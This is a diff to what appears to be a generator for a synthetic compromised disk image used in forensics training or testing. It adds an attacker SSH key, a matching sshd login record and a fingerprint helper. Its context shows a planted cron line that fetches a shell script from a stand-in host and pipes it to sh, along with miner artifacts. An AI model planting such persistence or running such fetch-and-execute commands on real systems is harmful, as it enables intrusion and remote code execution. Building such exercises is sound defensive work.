@@ -19,7 +19,15 @@ PLANTED = [
     ("miner", "/var/tmp/.x/config.json"),
     ("temp-executable", "/var/tmp/.x/xmrig"),
     ("shell-history", "/root/.bash_history"),
+    ("ssh-key-login", "/root/.ssh/authorized_keys"),
+    ("login-from-case-address", "/var/log/auth.log"),
 ]
+ATTACKER_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIHkqR6xV0uL2J9b3cH4sN3m0pW8xYq1aZt2eD5fG7hJk"
+
+
+def key_fingerprint(b64):
+    """The SHA256 fingerprint sshd logs for a public key blob."""
+    return "SHA256:" + base64.b64encode(hashlib.sha256(base64.b64decode(b64)).digest()).decode().rstrip("=")
 CLEAN = ["/etc/crontab", "/etc/cron.d/e2scrub_all", "/lib/systemd/system/ssh.service", "/lib/systemd/system/nginx.service",
          "/home/admin/.bash_history", "/var/www/html/index.php", "/etc/nginx/nginx.conf", "/opt/shop/config.json", "/tmp/upload-1234.tmp"]
 
@@ -75,7 +83,15 @@ def build_image(work, attack_epoch, size_mib=48):
     # ---- the attacker's work, at the time of the attack ----
     t = attack_epoch + 300
     _file(root, "/root/.ssh/authorized_keys",
-          "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHkqR6xV0uL2J9b3cH4sN3m0pW8xYq1aZt2eD5fG7hJk root@kali\n", 0o600, t)
+          f"ssh-ed25519 {ATTACKER_KEY} root@kali\n", 0o600, t)
+    # the attacker logs in with that key from the address CloudTrail shows calling AWS with the leaked key
+    import time as _time
+    stamp = lambda e: _time.strftime("%b %e %H:%M:%S", _time.gmtime(e))  # noqa: E731 (syslog's own format, UTC)
+    _file(root, "/var/log/auth.log",
+          f"{stamp(t - 600)} web-1 sshd[812]: Accepted publickey for admin from 10.0.1.10 port 50122 ssh2\n"
+          f"{stamp(t + 70)} web-1 sshd[4242]: Accepted publickey for root from 203.0.113.66 port 51812 ssh2: ED25519 "
+          f"{key_fingerprint(ATTACKER_KEY)}\n"
+          f"{stamp(t + 70)} web-1 sshd[4242]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)\n", 0o640, t + 80)
     _file(root, "/etc/cron.d/php-sessionclean",
           "*/10 * * * * root curl -fsSL http://203.0.113.66/s.sh | sh >/dev/null 2>&1\n", 0o644, t + 20)
     _file(root, "/etc/systemd/system/kworker-update.service",
